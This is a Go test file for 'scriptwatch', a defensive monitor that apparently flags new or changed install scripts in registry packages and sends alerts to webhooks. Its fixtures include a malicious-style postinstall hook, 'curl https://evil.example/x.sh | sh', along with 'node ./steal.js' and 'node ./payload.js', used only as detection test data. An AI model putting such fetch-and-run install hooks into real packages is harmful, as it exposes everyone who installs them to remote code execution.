package scriptwatch_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/git-pkgs/scriptwatch"
	"github.com/git-pkgs/scriptwatch/internal/core"
	"github.com/git-pkgs/scriptwatch/internal/store"
	"github.com/git-pkgs/scriptwatch/internal/testutil"
)

type hook struct {
	*httptest.Server
	mu       sync.Mutex
	messages []string
}

func newHook(t *testing.T) *hook {
	t.Helper()
	h := &hook{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct {
			Content string `json:"content"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		h.mu.Lock()
		h.messages = append(h.messages, body.Content)
		h.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(h.Close)
	return h
}

func (h *hook) Messages() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.messages...)
}

func testOptions(t *testing.T, reg *testutil.Registry, h *hook) scriptwatch.Options {
	opts := scriptwatch.DefaultOptions()
	opts.RegistryURL = reg.URL
	opts.ChangesURL = reg.ChangesURL()
	opts.ReplicateURL = reg.DBURL()
	opts.DataDir = t.TempDir()
	opts.PollInterval = 10 * time.Millisecond
	opts.QueueDelay = 0
	opts.RetryBaseDelay = 10 * time.Millisecond
	opts.ShutdownGrace = time.Second
	if h != nil {
		opts.Sinks = []scriptwatch.SinkConfig{{Kind: "webhook", URL: h.URL}}
	}
	return opts
}

func TestScanOnce(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("evil-pkg", "1.0.0", nil)
	reg.Publish("evil-pkg", "1.0.1", map[string]string{"postinstall": "curl https://evil.example/x.sh | sh"})
	h := newHook(t)

	m, err := scriptwatch.New(testOptions(t, reg, h), nil)
	require.NoError(t, err)
	defer m.Close()

	findings, err := m.ScanOnce(context.Background(), "evil-pkg")
	require.NoError(t, err)
	require.Len(t, findings, 1)
	assert.Equal(t, "1.0.1", findings[0].Version)
	assert.Equal(t, "1.0.0", findings[0].PreviousVersion)
	assert.Equal(t, "postinstall", findings[0].ScriptType)
	assert.Equal(t, scriptwatch.ActionAdded, findings[0].Action)
	assert.Equal(t, "pkg:npm/evil-pkg@1.0.1", findings[0].PURL)

	msgs := h.Messages()
	require.Len(t, msgs, 1)
	assert.Contains(t, msgs[0], "evil-pkg@1.0.1")
	assert.Contains(t, msgs[0], "curl https://evil.example/x.sh | sh")

	// The same release is never reported twice.
	findings, err = m.ScanOnce(context.Background(), "evil-pkg")
	require.NoError(t, err)
	assert.Empty(t, findings)
	assert.Len(t, h.Messages(), 1)
}

func TestScanOnceSQLite(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("native-addon", "2.0.0", map[string]string{"install": "node-gyp rebuild"})
	reg.Publish("native-addon", "2.1.0", map[string]string{"install": "node-gyp rebuild && node ./steal.js"})
	h := newHook(t)

	opts := testOptions(t, reg, h)
	opts.FindingsBackend = scriptwatch.FindingsBackendSQLite

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)

	findings, err := m.ScanOnce(context.Background(), "native-addon")
	require.NoError(t, err)
	require.Len(t, findings, 1)
	assert.Equal(t, scriptwatch.ActionChanged, findings[0].Action)
	assert.Equal(t, "node-gyp rebuild", findings[0].PreviousCommand)
	require.NoError(t, m.Close())

	// A fresh monitor over the same data directory remembers the finding.
	m, err = scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()
	findings, err = m.ScanOnce(context.Background(), "native-addon")
	require.NoError(t, err)
	assert.Empty(t, findings)
	assert.Len(t, h.Messages(), 1)
}

func TestScanOnceAllowlisted(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("bindings", "1.0.0", nil)
	reg.Publish("bindings", "1.1.0", map[string]string{"install": "node-gyp rebuild"})
	h := newHook(t)

	opts := testOptions(t, reg, h)
	opts.AllowlistPath = filepath.Join("internal", "allowlist", "testdata", "rules.yaml")

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	findings, err := m.ScanOnce(context.Background(), "bindings")
	require.NoError(t, err)
	assert.Empty(t, findings)
	assert.Empty(t, h.Messages())
}

func TestScanOnceSkipFirstPublish(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("brand-new", "0.1.0", map[string]string{"preinstall": "node setup.js"})

	opts := testOptions(t, reg, nil)
	opts.SkipFirstPublish = true

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	findings, err := m.ScanOnce(context.Background(), "brand-new")
	require.NoError(t, err)
	assert.Empty(t, findings)
}

func TestRedeliver(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("evil-pkg", "1.0.0", nil)
	reg.Publish("evil-pkg", "1.0.1", map[string]string{"postinstall": "node x.js"})

	var mu sync.Mutex
	failing := true
	var received int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if failing {
			w.WriteHeader(http.StatusBadGateway)
			return
		}
		received++
		w.WriteHeader(http.StatusNoContent)
	}))
	defer srv.Close()

	opts := testOptions(t, reg, nil)
	opts.Sinks = []scriptwatch.SinkConfig{{Kind: "webhook", URL: srv.URL}}

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	findings, err := m.ScanOnce(context.Background(), "evil-pkg")
	require.NoError(t, err)
	require.Len(t, findings, 1)

	mu.Lock()
	failing = false
	mu.Unlock()

	n, err := m.Redeliver(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 1, n)

	n, err = m.Redeliver(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 0, n)

	mu.Lock()
	defer mu.Unlock()
	assert.Equal(t, 1, received)
}

func TestRunFollowsFeed(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("evil-pkg", "1.0.0", nil)
	h := newHook(t)

	opts := testOptions(t, reg, h)
	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()

	// Wait for the initial cursor before publishing, so the new release
	// arrives through the feed.
	require.Eventually(t, func() bool {
		return m.Cursor().String() == "1"
	}, 2*time.Second, 5*time.Millisecond)

	reg.Publish("evil-pkg", "1.0.1", map[string]string{"postinstall": "node ./payload.js"})

	require.Eventually(t, func() bool {
		return len(h.Messages()) == 1
	}, 5*time.Second, 10*time.Millisecond)
	assert.Contains(t, h.Messages()[0], "node ./payload.js")

	pending, err := store.NewJSONPending(filepath.Join(opts.DataDir, store.PendingFile))
	require.NoError(t, err)
	require.Eventually(t, func() bool {
		jobs, err := pending.List()
		return err == nil && len(jobs) == 0
	}, 2*time.Second, 10*time.Millisecond)

	cancel()
	select {
	case err := <-done:
		assert.NoError(t, err)
	case <-time.After(5 * time.Second):
		t.Fatal("Run did not return after cancellation")
	}

	cursor, err := store.NewJSONCursor(filepath.Join(opts.DataDir, store.CursorFile))
	require.NoError(t, err)
	seq, ok, err := cursor.Load()
	require.NoError(t, err)
	require.True(t, ok)
	assert.Equal(t, "2", seq.String())
}

func TestRunRequeuesPending(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("left-behind", "1.0.0", nil)
	reg.Publish("left-behind", "1.0.1", map[string]string{"preinstall": "sh ./x.sh"})
	h := newHook(t)

	opts := testOptions(t, reg, h)
	pending, err := store.NewJSONPending(filepath.Join(opts.DataDir, store.PendingFile))
	require.NoError(t, err)
	require.NoError(t, pending.Append(core.ScanJob{ID: "job-1", PackageName: "left-behind", EnqueuedAt: time.Now()}))

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()

	require.Eventually(t, func() bool {
		return len(h.Messages()) == 1
	}, 5*time.Second, 10*time.Millisecond)

	cancel()
	assert.NoError(t, <-done)
}

func TestRunRequeuesMorePendingThanQueueCapacity(t *testing.T) {
	reg := testutil.NewRegistry(t)
	h := newHook(t)
	opts := testOptions(t, reg, h)
	opts.QueueCapacity = 2
	opts.Concurrency = 1

	pending, err := store.NewJSONPending(filepath.Join(opts.DataDir, store.PendingFile))
	require.NoError(t, err)
	for _, name := range []string{"left-a", "left-b", "left-c"} {
		reg.Publish(name, "1.0.0", nil)
		reg.Publish(name, "1.0.1", map[string]string{"postinstall": "node " + name + ".js"})
		require.NoError(t, pending.Append(core.ScanJob{ID: name, PackageName: name, EnqueuedAt: time.Now()}))
	}

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()

	require.Eventually(t, func() bool {
		return len(h.Messages()) == 3
	}, 5*time.Second, 10*time.Millisecond)
	require.Eventually(t, func() bool {
		jobs, err := pending.List()
		return err == nil && len(jobs) == 0
	}, 2*time.Second, 10*time.Millisecond)

	cancel()
	assert.NoError(t, <-done)
}

func TestRunAbandonsScanThatKeepsTimingOut(t *testing.T) {
	reg := testutil.NewRegistry(t)
	reg.Publish("slow-pkg", "1.0.0", nil)
	h := newHook(t)

	opts := testOptions(t, reg, h)
	opts.RequestTimeout = 50 * time.Millisecond
	opts.MaxAttempts = 2
	obsCore, logs := observer.New(zap.InfoLevel)

	m, err := scriptwatch.New(opts, zap.New(obsCore))
	require.NoError(t, err)
	defer m.Close()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()

	require.Eventually(t, func() bool {
		return m.Cursor().String() == "1"
	}, 2*time.Second, 5*time.Millisecond)

	reg.SetDelay("slow-pkg", 200*time.Millisecond)
	reg.Publish("slow-pkg", "1.0.1", map[string]string{"postinstall": "node ./x.js"})

	require.Eventually(t, func() bool {
		return logs.FilterMessage("job abandoned").Len() == 1
	}, 5*time.Second, 10*time.Millisecond)
	assert.Equal(t, 1, logs.FilterMessage("scan failed, retrying").Len())
	assert.Equal(t, 2, reg.Hits("slow-pkg"))
	assert.Empty(t, h.Messages())

	// Giving up on one package does not stop the monitor.
	select {
	case err := <-done:
		t.Fatalf("Run returned early: %v", err)
	default:
	}

	pending, err := store.NewJSONPending(filepath.Join(opts.DataDir, store.PendingFile))
	require.NoError(t, err)
	require.Eventually(t, func() bool {
		jobs, err := pending.List()
		return err == nil && len(jobs) == 0
	}, 2*time.Second, 10*time.Millisecond)

	cancel()
	select {
	case err := <-done:
		assert.NoError(t, err)
	case <-time.After(5 * time.Second):
		t.Fatal("Run did not return after cancellation")
	}
}

func TestRunInitialCursorFailure(t *testing.T) {
	reg := testutil.NewRegistry(t)
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	defer down.Close()

	opts := testOptions(t, reg, nil)
	opts.ReplicateURL = down.URL

	m, err := scriptwatch.New(opts, nil)
	require.NoError(t, err)
	defer m.Close()

	err = m.Run(context.Background())
	require.Error(t, err)
	assert.True(t, errors.Is(err, scriptwatch.ErrInitialCursor), "got %v", err)
}

func TestNewRejectsBadConfiguration(t *testing.T) {
	reg := testutil.NewRegistry(t)

	t.Run("unknown sink", func(t *testing.T) {
		opts := testOptions(t, reg, nil)
		opts.Sinks = []scriptwatch.SinkConfig{{Kind: "carrier-pigeon"}}
		_, err := scriptwatch.New(opts, nil)
		assert.Error(t, err)
	})

	t.Run("unknown backend", func(t *testing.T) {
		opts := testOptions(t, reg, nil)
		opts.FindingsBackend = "postgres"
		_, err := scriptwatch.New(opts, nil)
		assert.Error(t, err)
	})

	t.Run("missing allowlist", func(t *testing.T) {
		opts := testOptions(t, reg, nil)
		opts.AllowlistPath = filepath.Join(t.TempDir(), "nope.yaml")
		_, err := scriptwatch.New(opts, nil)
		assert.Error(t, err)
	})
}

func TestSupportedSinkKinds(t *testing.T) {
	assert.Equal(t, []string{"chatbot", "github", "webhook"}, scriptwatch.SupportedSinkKinds())
}
